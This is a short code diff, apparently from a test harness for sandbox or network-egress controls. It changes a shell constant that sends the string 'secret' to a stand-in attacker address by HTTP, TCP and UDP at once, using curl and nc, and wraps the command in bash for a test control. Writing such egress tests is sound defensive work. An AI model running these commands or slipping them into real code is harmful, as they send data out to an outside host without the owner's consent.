@@ -68,9 +68,9 @@ export function inPython(
   return attack(scene, ["/usr/bin/python3", "-c", program], options);
 }
 
-/** Shell: sends to the attacker by TCP and UDP, whatever the one before said. */
-export const SEND = "curl -sS -m 3 -d secret http://203.0.113.66/; " +
-  "echo secret | nc -u -w 1 203.0.113.66 9000; echo secret | nc -N -w 2 203.0.113.66 9000";
+/** Shell: sends to the attacker by HTTP, TCP and UDP at once, since what is dropped takes its time. */
+export const SEND = "(curl -sS -m 2 -d secret http://203.0.113.66/ & " +
+  "echo secret | nc -u -w 1 203.0.113.66 9000 & echo secret | nc -N -w 2 203.0.113.66 9000 & wait)";
 
 /** {@link SEND} as a control. */
 export const SENDING = ["bash", "-c", SEND];
